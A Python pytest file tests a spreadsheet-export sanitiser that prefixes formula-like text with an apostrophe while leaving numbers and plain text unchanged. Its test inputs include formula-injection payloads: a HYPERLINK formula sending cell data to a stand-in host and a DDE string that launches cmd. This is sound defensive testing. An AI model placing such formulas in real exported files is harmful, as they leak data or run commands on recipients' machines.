"""What an exported spreadsheet cell may hold: text never runs as a formula, numbers stay numbers."""
from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from app.domain.cells import as_written, safe_cell


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://evil.invalid/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
    "\t=1+1", "\r=1+1", "-", "+86 138 0013 8000", "=1",
])
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe_and_reads_back_as_it_was(text):
    written = safe_cell(text)
    assert written == "'" + text
    assert as_written(written) == text


@pytest.mark.parametrize("value", [-3, -0.5, Decimal("-12.50"), 0, 42, "-12.5", "+3", "-3.0%", ".5", "-7.", None,
                                   True, date(2026, 11, 23)])
def test_numbers_negative_ones_included_stay_as_they_are(value):
    assert safe_cell(value) == value and type(safe_cell(value)) is type(value)


@pytest.mark.parametrize("text", ["营业员1", "A001", "1+1", "a=b", " =1", "'quoted'", ""])
def test_other_text_is_written_and_read_back_unchanged(text):
    assert safe_cell(text) == text and as_written(text) == text
